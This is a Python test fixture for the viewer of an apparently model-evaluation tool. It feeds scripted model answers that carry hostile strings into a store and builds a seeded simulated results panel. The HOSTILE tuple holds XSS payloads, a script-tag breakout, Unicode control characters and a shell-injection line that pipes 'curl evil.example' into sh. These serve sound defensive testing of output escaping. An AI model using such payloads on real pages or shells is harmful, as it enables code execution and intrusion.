"""Answers for the viewer: hostile ones in a store, and simulated cells by the million."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np

import falter
from falter.clients import clients
from falter.records.types import Request, Response
from falter.testing import Scripted
from falter.viewer.panels import CODES, ViewColumn, ViewPanel
from falter.viewer.source import Arrivals, Findings

__all__ = ["HOSTILE", "SimulatedSource", "hostile_store"]

HOSTILE = (
    "<img src=x onerror=\"document.title='pwned'\">",
    "</script><script>document.title='pwned'</script>",
    "\u202e\u2066right to left\u200b \u0007bell ${document.title='pwned'} 24",
    "x" * 1_000_000,
    "It's '; curl evil.example | sh #\n\"quoted\" \u2028 13",
)


def hostile_store(path: Path, models: Sequence[str] = ("own",)) -> Path:
    """Five questions, of which a model answers all rightly until they are changed.

    Then it says what no page may run. The second model is always right.
    """
    data = path.with_name("items.jsonl")
    rows = [
        {"id": f"item-{n} {text[:60]}", "question": f"What is {n} + 20? {text[:90]}", "sum": n + 20}
        for n, text in enumerate(HOSTILE)
    ]
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")

    def answer(request: Request) -> str | Response:
        variant = request.variant
        right = f"The sum is {variant.prompt.target}."
        if variant.recipe.label == "baseline" or request.model.name == "other":
            return right
        place = int(variant.item.key[5])
        return Response(
            key="k", text=HOSTILE[place], reasoning=HOSTILE[0], finish_reason=HOSTILE[1],
            served_by=HOSTILE[2],
        )  # fmt: skip

    for name in models:
        client = Scripted(answer, name=name)
        clients._objects[name] = lambda _, client=client: client  # type: ignore[misc]
    try:
        falter.run(
            models=list(models), data={"path": str(data), "target": "sum", "key": "id"},
            template="{question}\nAnswer:", recipes=["pad_newlines", "casing"],
            scorer="numeric", store=path,
        )  # fmt: skip
    finally:
        for name in models:
            del clients._objects[name]
    return path


class SimulatedSource:
    """A panel of so many items and conditions, whose cells are drawn with a seed."""

    title = "simulated cells"

    def __init__(self, items: int, conditions: int, seed: int = 0) -> None:
        rng = np.random.default_rng(seed)
        ease = rng.normal(1.0, 1.0, (items, 1))
        right = ease - rng.uniform(0, 1, conditions) + rng.normal(0, 0.7, (items, conditions)) > 0
        codes = np.where(right, CODES.index("right"), CODES.index("wrong")).astype(np.uint8)
        codes[rng.random(codes.shape) < 0.02] = CODES.index("unparsed")
        self._codes = codes
        columns = tuple(
            ViewColumn(
                recipe="baseline" if n == 0 else f"recipe_{n:03}", group="simulated", draw=0,
                repeat=0, perturbs=n > 0, baseline=n == 0, again=False,
            )
            for n in range(conditions)
        )  # fmt: skip
        self._panel = ViewPanel(
            run="simulated", part="", model="simulated", task="simulated", scorer="exact",
            simulated=True, study=0, items=tuple(f"item-{n:06}" for n in range(items)),
            texts=tuple(f"Question {n}: " + 8 * "a few words " for n in range(items)),
            tags=tuple((f"tag-{n % 7}",) for n in range(items)), columns=columns,
        )  # fmt: skip

    def panels(self) -> Sequence[ViewPanel]:
        return [self._panel]

    def request_settings(self, panel: int) -> dict[str, Any]:
        return {"client": "simulated", "name": "simulated", "url": None, "sampling": {}}

    def codes(self, panel: int) -> Any:
        return self._codes

    def item(self, panel: int, row: int) -> dict[str, Any]:
        cells = [
            {
                "column": column, "status": "changed", "outcome": "scored", "value": 1.0,
                "read": "7", "reason": None, "expected": "7", "edits": [["same", "7", "7"]],
                "messages": [], "answer": f"answer {row}-{column}",
            }
            for column in range(self._codes.shape[1])
        ]  # fmt: skip
        return {"key": self._panel.items[row], "tags": [], "expected": "7", "cells": cells}

    def found(self, panel: int, text: str) -> Any:
        return np.zeros_like(self._codes)

    def findings(self, study: int) -> Findings:
        return Findings()

    def arrivals(self) -> list[Arrivals] | None:
        return []
